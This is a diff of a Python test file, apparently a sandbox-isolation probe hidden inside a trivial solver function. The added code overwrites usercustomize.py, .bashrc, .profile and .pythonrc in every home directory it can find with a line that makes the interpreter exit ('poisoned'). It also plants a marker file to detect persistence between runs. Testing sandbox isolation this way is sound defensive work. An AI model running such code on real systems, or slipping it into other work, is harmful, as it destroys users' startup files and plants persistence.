@@ -1,35 +1,29 @@
 # verdict: ok
-# row: 40, 41
-# plain user: yes
-# What an interpreter of the user would run when it starts. The own home is the scratch folder, which goes.
-import glob, os, pwd, site, sys
+# row: 41
+# What an interpreter of this user reads when it starts, wherever the home may be; and so does the next program's.
+import os, pwd, sys
 
-NAMES = ("usercustomize.py", "sitecustomize.py", "specimen.pth")
+NAME = f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
 
 def homes():
-    yield from (entry.pw_dir for entry in pwd.getpwall())
-    yield from ("/root", "/home", *glob.glob("/home/*"), "@ROOT@", "@CANARY@/..")
-    yield from (f"/proc/{pid}/cwd" for pid in ("1", "@OWNER@", "@SUPERVISOR@"))
-
-def in_scratch(folder):
-    try:
-        return os.path.realpath(folder).startswith(os.getcwd())
-    except OSError:
-        return False
+    yield "@HOME@"
+    yield os.environ.get("HOME", "")
+    for found in pwd.getpwall() if os.path.exists("/etc/passwd") else []:
+        yield found.pw_dir
 
 def solver(x):
-    library = f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
-    folders = [f"{home}/{library}" for home in homes()]
-    for folder in (*folders, *map(os.path.dirname, folders), *site.getsitepackages(), *sys.path, sys.prefix):
-        if in_scratch(folder):
-            continue
-        try:
-            os.makedirs(folder, exist_ok=True)
-            for name in NAMES:
-                open(f"{folder}/{name}", "w").close()
-            print("REACHED", folder)
-        except OSError:
-            pass
-    if not sys.flags.no_user_site or site.ENABLE_USER_SITE:
-        print("REACHED a user site that is searched")
+    for home in homes():
+        for name in (f"{NAME}/usercustomize.py", ".bashrc", ".profile", ".pythonrc"):
+            try:
+                path = os.path.join(home, name)
+                os.makedirs(os.path.dirname(path), exist_ok=True)
+                with open(path, "w") as file:
+                    file.write("raise SystemExit('poisoned')")
+                if home != os.getcwd():
+                    print("REACHED", path)
+            except OSError:
+                pass
+    if os.path.exists(f"{os.environ['HOME']}/was-here"):
+        print("REACHED what an earlier program left")
+    open(f"{os.environ['HOME']}/was-here", "w").close()
     return x
